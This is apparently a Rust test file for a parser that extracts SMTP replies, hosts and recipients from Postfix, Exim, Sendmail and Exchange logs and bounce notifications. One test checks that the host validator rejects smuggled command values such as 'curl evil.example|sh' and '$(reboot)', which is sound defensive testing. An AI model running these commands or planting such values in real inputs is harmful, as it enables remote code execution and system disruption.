mod mails;

use super::*;
use crate::explain::explain;

fn all(text: &str) -> Vec<Found> {
    let mut finder = Finder::new();
    let mut found: Vec<Found> = text.lines().flat_map(|line| finder.line(line.as_bytes())).collect();
    found.extend(finder.finish());
    found
}

fn only(text: &str) -> Found {
    let mut found = all(text);
    assert_eq!(found.len(), 1, "{text}\n{found:?}");
    found.remove(0)
}

#[test]
fn raw_replies_are_grouped() {
    let found =
        all("250-mx.example.org\n250-SIZE 1000\n250 DSN\n\n550-5.1.1 no\n550 5.1.1 such user\n421 bye\n");
    let lines: Vec<usize> = found.iter().map(|f| f.reply.lines().count()).collect();
    assert_eq!(lines, [3, 2, 1]);
    assert_eq!(found[1].line, 5);
    assert_eq!(all("<** 550 5.1.1 no such user\n<-  250 ok").len(), 2);
    assert_eq!(all("550-unfinished\n\n250 ok").len(), 2, "a blank line parts replies");
    assert_eq!(only("    550 no such user").reply.text(), "no such user", "somebody indented it");
    let counted = "    450 status=bounced (host mx.example.net[192.0.2.1] said: 550 5.1.1 User unknown)";
    assert_eq!(only(counted).reply.code().map(|code| code.0), Some(550), "somebody counted such lines");
}

#[test]
fn what_one_host_said_is_counted_with_the_delivery() {
    let exim = "2026-11-25 17:06:14 1xWGRi-0005D5-0P SMTP error from remote mail server after RCPT TO:<bob@example.net>: \
                host mx1.example.net [192.0.2.1]: 451 4.7.1 Greylisting in action\n\
                2026-11-25 17:06:14 1xWGRi-0005D5-0P == bob@example.net R=out T=smtp defer (-44): SMTP error from remote \
                mail server after RCPT TO:<bob@example.net>: host mx2.example.net [192.0.2.2]: 451 4.7.1 Greylisting";
    let postfix = "Nov 25 17:06:14 mx postfix/smtp[9]: 4ABC: host mx1.example.net[192.0.2.1] said: 451 4.7.1 Greylisting in \
                   action (in reply to RCPT TO command)\n\
                   Nov 25 17:06:15 mx postfix/smtp[9]: 4ABC: to=<bob@example.net>, relay=mx2.example.net[192.0.2.2]:25, \
                   dsn=4.7.1, status=deferred (host mx2.example.net[192.0.2.2] said: 451 4.7.1 Greylisting (in reply to \
                   RCPT TO command))";
    for log in [exim, postfix] {
        let found = all(log);
        let (interim, last): (Vec<&Found>, Vec<&Found>) = found.iter().partition(|f| f.interim);
        assert_eq!((interim.len(), last.len()), (1, 1), "{found:?}");
        assert_eq!(interim[0].host.as_deref(), Some("mx1.example.net"));
        assert_eq!(interim[0].verb, Some(Verb::Rcpt));
        assert_eq!(interim[0].reply.code().map(|code| code.0), Some(451));
        let mut summary = crate::explain::Summary::default();
        found.iter().for_each(|f| summary.add(f, &explain(&f.situation()).remove(0)));
        assert_eq!((summary.replies, summary.reasons["greylisted"]), (1, 1));
        assert_eq!(last[0].domain(), Some("example.net"));
    }
}

#[test]
fn postfix_lines() {
    let found = only(
        "Nov 23 10:00:00 mx postfix/smtp[123]: 4ABC: to=<bob@example.net>, relay=mx.example.net[192.0.2.1]:25, \
         delay=1, delays=0/0/1/0, dsn=5.1.1, status=bounced (host mx.example.net[192.0.2.1] said: 550-5.1.1 No such \
         550 5.1.1 user here (in reply to RCPT TO command))",
    );
    assert_eq!(found.reply.text(), "5.1.1 No such\n5.1.1 user here");
    assert_eq!(found.verb, Some(Verb::Rcpt));
    assert_eq!(found.host.as_deref(), Some("mx.example.net"));
    assert_eq!(found.domain(), Some("example.net"));
    let found = only(
        "Nov 23 10:00:00 mx postfix/smtpd[1]: NOQUEUE: reject: RCPT from unknown[192.0.2.9]: 554 5.7.1 \
         <bob@example.net>: Relay access denied; from=<a@example.org> to=<bob@example.net> proto=ESMTP helo=<x>",
    );
    assert_eq!(explain(&found.situation())[0].reason.slug(), "relay-denied");
    assert_eq!(found.sender.as_deref(), Some("a@example.org"));
    let sent = only(
        "postfix/smtp[1]: 4A: to=<b@example.net>, relay=mx[192.0.2.1]:25, status=sent (250 2.0.0 Ok: queued)",
    );
    assert_eq!(explain(&sent.situation())[0].reason.slug(), "ok");
    assert!(all("postfix/qmgr[1]: 4ABC: from=<a@example.org>, size=450, nrcpt=1 (queue active)").is_empty());
}

#[test]
fn exim_lines() {
    let found = only(
        "2026-11-23 10:00:00 1abcde-000001-AB ** bob@example.net R=dnslookup T=remote_smtp H=mx.example.net \
         [192.0.2.1] X=TLS1.3:x:256 CV=yes: SMTP error from remote mail server after RCPT TO:<bob@example.net>: 550 \
         5.2.2 mailbox full",
    );
    assert_eq!(found.verb, Some(Verb::Rcpt));
    assert_eq!(found.host.as_deref(), Some("mx.example.net"));
    assert_eq!(found.recipient.as_deref(), Some("bob@example.net"));
    assert_eq!(explain(&found.situation())[0].reason.slug(), "mailbox-full");
}

#[test]
fn sendmail_lines() {
    let found = only(
        "Nov 23 10:00:00 mx sm-mta[1]: 5AN: to=<bob@example.net>, delay=00:00:01, mailer=esmtp, \
         relay=mx.example.net. [192.0.2.1], dsn=5.1.1, stat=User unknown",
    );
    assert_eq!(explain(&found.situation())[0].reason.slug(), "user-unknown");
    assert_eq!(found.host.as_deref(), Some("mx.example.net"));
    let found = only(
        "sm-mta[1]: 5AN: ruleset=check_rcpt, arg1=<bob@example.net>, relay=[192.0.2.9], reject=550 5.7.1 \
         <bob@example.net>... Relaying denied",
    );
    assert_eq!(found.verb, Some(Verb::Rcpt));
}

#[test]
fn exchange_lines() {
    let found =
        only("2026-11-23T10:00:00Z,Out,08D,12,10.0.0.1:2525,192.0.2.1:25,<,550 5.7.1 Unable to relay,");
    assert_eq!(explain(&found.situation())[0].reason.slug(), "relay-denied");
    let found = only("Remote Server returned '550 5.1.10 RESOLVER.ADR.RecipientNotFound; not found'");
    assert_eq!(explain(&found.situation())[0].reason.slug(), "user-unknown");
    let found = only(
        "x,RecipientStatus,bob@example.net,{[{LRT=1};{LED=452 4.3.1 Insufficient system resources};{FQDN=mx.example.net}]}",
    );
    assert_eq!(found.host.as_deref(), Some("mx.example.net"));
}

#[test]
fn what_closes_a_quoted_reply_is_no_part_of_it() {
    let lines = [
        (
            "2026-11-25T10:00:01.119Z,Outbound,08DA0C,24,10.0.0.5:51221,192.0.2.9:25,<,\"550 5.1.1 <bob@example.net>: \
             Recipient address rejected: User unknown\",",
            "550 5.1.1 <bob@example.net>: Recipient address rejected: User unknown",
        ),
        (
            "2026-11-25T10:00:00.000Z,,,,MX,\"550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP \
             address lookup\",;250 2.1.5 OK,SMTP,FAIL,123",
            "550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup",
        ),
        (
            "mx.example.net #<mx.example.net #5.7.1 smtp; 550 5.7.1 Message rejected as spam by Content Filtering.> \
             #SMTP#",
            "550 5.7.1 Message rejected as spam by Content Filtering.",
        ),
    ];
    for (line, said) in lines {
        let found = only(line);
        assert_eq!(found.reply.text(), said.split_once(' ').map_or(said, |(_, text)| text), "{line}");
    }
}

#[test]
fn notifications() {
    let found = all(
        "Subject: Undelivered\n\nReporting-MTA: dns; mx.example.org\n\nFinal-Recipient: rfc822; bob@example.net\n\
         Action: failed\nStatus: 5.1.1\nRemote-MTA: dns; mx.example.net\nDiagnostic-Code: smtp; 550 5.1.1 \
         <bob@example.net>:\n    no such user\n\nFinal-Recipient: rfc822; eve@example.net\nStatus: 4.2.2\n\n\
         Diagnostic-Code: X-Postfix; Host or domain name not found\nStatus: 5.4.4\n",
    );
    assert_eq!(found.len(), 3, "{found:?}");
    assert_eq!(found[0].host.as_deref(), Some("mx.example.net"));
    assert_eq!(found[0].reply.code().map(|c| c.0), Some(550));
    assert!(found[0].reply.text().ends_with("no such user"));
    assert_eq!(explain(&found[1].situation())[0].reason.slug(), "mailbox-full");
    assert_eq!(explain(&found[2].situation())[0].reason.slug(), "host-unknown");
}

#[test]
fn several_lines_in_an_exim_log_are_one_reply() {
    let found = only(
        "2026-11-25 10:00:00 1vNabc-0000000-AA ** bob@example.org R=dnslookup T=remote_smtp H=mx.example.org [192.0.2.1]: \
         SMTP error from remote mail server after RCPT TO:<bob@example.org>: 550-no such\\n550 user here",
    );
    assert_eq!(found.verb, Some(Verb::Rcpt));
    let text = found.reply.text().to_string();
    assert!(!text.contains("\\n") && text.contains("no such"), "{text}");
}

#[test]
fn deliveries_that_got_no_reply_are_read_too() {
    for (line, words) in [
        (
            "Nov 25 10:00:00 mx postfix/smtp[7]: 4A1B2: to=<bob@example.org>, relay=none, delay=30, dsn=4.4.1, \
             status=deferred (connect to mx.example.org[192.0.2.1]:25: Connection timed out)",
            "Connection timed out",
        ),
        (
            "2026-11-25 10:00:00 1vNabc-0000000-AA == bob@example.org R=dnslookup T=remote_smtp defer (110): Connection \
             timed out",
            "Connection timed out",
        ),
        (
            "2026-11-25 10:00:00 1vNabc-0000000-AA ** bob@example.org: Unrouteable address",
            "Unrouteable address",
        ),
    ] {
        let text = only(line).reply.text().to_string();
        assert!(text.contains(words), "{line}: {text}");
    }
}

#[test]
fn a_notification_is_told_once() {
    // As Postfix sends it; the text for people repeats the fields, broken in the middle of the reply.
    let head = "Content-Type: multipart/report; report-type=delivery-status;\n\tboundary=\"70CF.1/mail\"\n\n\
                --70CF.1/mail\n\n<full@example.net>: host mx.example.net[192.0.2.1] said: 554 5.7.1\n    \
                <full@example.net>: Relay access denied (in reply to RCPT TO command)\n\n";
    let fields = "--70CF.1/mail\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; mail.example.org\n\n\
                  Final-Recipient: rfc822; full@example.net\nAction: failed\nStatus: 5.7.1\n\
                  Diagnostic-Code: smtp; 554 5.7.1 <full@example.net>: Relay access denied\n\n";
    let tail = "--70CF.1/mail\n\n550 this was in the message\n--70CF.1/mail--\n";
    let found = only(&format!("{head}{fields}{tail}"));
    assert_eq!(explain(&found.situation())[0].reason.slug(), "relay-denied");
    // Without fields the text counts, and what follows the notification counts too.
    assert_eq!(all(&format!("{head}--70CF.1/mail--\n550 5.1.1 no such user\n")).len(), 2);
    assert_eq!(all(&format!("{head}{fields}{tail}550 5.1.1 no such user\n")).len(), 2);
    assert_eq!(all(head).len(), 1, "it may end anywhere");
    assert_eq!(all(&format!("{head}{fields}{head}{fields}")).len(), 2);
}

#[test]
fn a_line_may_tell_of_several_recipients() {
    let sendmail = "sm-mta[1]: 5AN: to=<a@one.example>,<b@two.example>, delay=1, relay=mx.example.net. [192.0.2.1], \
                    dsn=5.1.1, stat=User unknown";
    let queue = r#"{"queue_name": "deferred", "sender": "s@example.org", "recipients": [
        {"address": "a@one.example", "delay_reason": "host mx.example.net[192.0.2.1] said: 450 4.7.1 no (in reply to RCPT TO command)"},
        {"address": "b@two.example", "delay_reason": "connect to mx.example.net[192.0.2.1]:25: Connection refused"}]}"#;
    let tracking = "2026-11-23T10:00:00.123Z,,,,EX1,x;0,,ROUTING,FAIL,1,<id@mail.example.org>,4b,a@one.example;b@two.example,\
                    550 5.1.10 RESOLVER.ADR.RecipientNotFound; not found;550 5.2.2 full,55,2,,,Hello,s@example.org,,";
    for line in [sendmail, &queue.replace('\n', " "), tracking] {
        let found = all(line);
        let recipients: Vec<_> = found.iter().filter_map(|found| found.recipient.as_deref()).collect();
        assert_eq!(recipients, ["a@one.example", "b@two.example"], "{line}");
    }
    assert!(all(sendmail).iter().all(|found| found.host.as_deref() == Some("mx.example.net")));
    assert_eq!(all(tracking)[0].reply.text(), "5.1.10 RESOLVER.ADR.RecipientNotFound; not found");
}

#[test]
fn lines_of_mailq_tell_what_is_waited_for() {
    for (line, code) in [
        ("(host mx.example.net[192.0.2.1] said: 450 4.7.1 later (in reply to RCPT TO command))", Some(450)),
        ("(connect to mx.example.net[192.0.2.1]:25: Connection timed out)", None),
        (
            "(conversation with mx.example.net[192.0.2.1] timed out while receiving the initial server greeting)",
            None,
        ),
        ("(lost connection with mx.example.net[192.0.2.1] while sending RCPT TO)", None),
    ] {
        let found = only(line);
        assert_eq!(found.reply.code().map(|code| code.0), code, "{line}");
        assert_eq!(found.host.as_deref(), Some("mx.example.net"), "{line}");
    }
}

#[test]
fn what_is_no_outcome_is_not_counted() {
    for line in [
        "postfix/smtpd[1]: NOQUEUE: reject_warning: RCPT from unknown[192.0.2.9]: 554 5.7.1 blocked; from=<a@example.org> \
         to=<bob@example.net> proto=ESMTP helo=<x>",
        "4ABE4: host mx1.example.net[192.0.2.1] refused to talk to me: 421 4.3.2 Too many connections",
        "2026-11-23 10:00:00 1ab-0001-AB H=mx1.example.net [192.0.2.1]: SMTP error from remote mail server after RCPT \
         TO:<bob@example.net>: 451 4.7.1 Greylisting",
        "2026-11-23 10:00:00 1ab-0001-AB SMTP error from remote mail server after RCPT TO:<bob@example.net>: 451 no",
    ] {
        assert!(only(line).interim, "{line}");
    }
}

#[test]
fn names_of_hosts_and_people_are_no_more_than_that() {
    for (text, expected) in [
        ("mx.example.net. (192.0.2.1, the server for the domain)", Some("mx.example.net")),
        ("[192.0.2.1]", Some("[192.0.2.1]")),
        ("x.example;curl evil.example|sh", None),
        ("$(reboot).example.net", None),
        ("", None),
    ] {
        assert_eq!(host(text).as_deref(), expected, "{text}");
    }
    for (text, expected) in [
        ("<bob@example.net>", Some("bob@example.net")),
        ("Bob <bob@example.net>", Some("bob@example.net")),
        ("\"bob smith\"@example.net.", Some("\"bob smith\"@example.net")),
        ("<>", None),
        ("bob\u{1b}@example.net", None),
    ] {
        assert_eq!(address(text).as_deref(), expected, "{text}");
    }
}

#[test]
fn lines_without_a_reply_give_none() {
    for line in [
        "",
        "hello",
        "2026-11-23 10:00:00 started 250 workers",
        "port 587 open",
        "pid 550",
        "[550] x",
        "{\"a\": 550}",
        "{\"message\": \"{}\"}",
    ] {
        assert!(all(line).is_empty(), "{line}");
    }
}

#[test]
fn json_lines() {
    let found =
        from_json(br#"{"reply":"550 5.1.1 x","command":"RCPT TO","host":"mx","other":1}"#, 3).unwrap();
    assert_eq!((found.verb, found.host.as_deref(), found.line), (Some(Verb::Rcpt), Some("mx"), 3));
    assert_eq!(found.command, None);
    assert!(from_json(b"{}", 7).unwrap_err().to_string().starts_with("line 7"));
    let found =
        from_json(br#"{"reply":"501 5.5.4 Syntax error","command":"RCPT TO:bob@x.example"}"#, 1).unwrap();
    let place = crate::explain::explain(&found.situation()).remove(0).place.unwrap();
    assert_eq!(place.at, 8..21);
    let found = |line: &str| from_json(line.as_bytes(), 1).unwrap();
    let unknown =
        found(r#"{"reply":"550 5.1.1 user unknown","command":"RCPT TO:<x@y.example> NOTIFY=NEVER"}"#);
    assert_eq!(unknown.recipient.as_deref(), Some("x@y.example"));
    let big = found(r#"{"reply":"552 5.3.4 too big","command":"MAIL FROM:<a@y.example> SIZE=5000000"}"#);
    assert_eq!(
        (big.sender.as_deref(), big.situation().declared_size),
        (Some("a@y.example"), Some(5_000_000))
    );
}

#[test]
fn events_in_one_list_are_told_apart() {
    let list = r#"[{"email":"bob@example.net","event":"bounce","reason":"550 5.1.1 User unknown"},{"email":"eve@example.net","event":"deferred","response":"450 4.2.1 try later"}]"#;
    let found = Finder::new().line(list.as_bytes());
    let seen: Vec<_> =
        found.iter().map(|f| (f.recipient.as_deref(), f.reply.code().map(|code| code.0))).collect();
    assert_eq!(seen, [(Some("bob@example.net"), Some(550)), (Some("eve@example.net"), Some(450))]);
    for broken in ["[", "[[[[", "\"a\": \"{\"", "{\"email\":", "[{}]", "[[{\"reason\":{}}]]"] {
        assert!(Finder::new().line(broken.as_bytes()).is_empty(), "{broken}");
    }
}

#[test]
fn what_came_back_is_told_from_what_waits() {
    let returned = |line: &str| Finder::new().line(line.as_bytes()).remove(0).returned;
    let postfix = |status: &str| {
        format!(
            "Nov 26 10:00:00 mx postfix/smtp[1]: 4X: to=<b@example.net>, relay=none, dsn=4.4.1, status={status} (connect to mx[192.0.2.1]:25: Connection timed out)"
        )
    };
    assert_eq!(returned(&postfix("deferred")), Some(false));
    assert_eq!(returned(&postfix("bounced")), Some(true));
    let exim = |mark: &str| {
        format!(
            "2026-11-26 10:00:05 1abCDE-000124-AB {mark} c@example.net R=dnslookup T=smtp: retry time not reached for any host for 'example.net' after a long failure period"
        )
    };
    assert_eq!(returned(&exim("==")), Some(false));
    assert_eq!(returned(&exim("**")), Some(true));
}
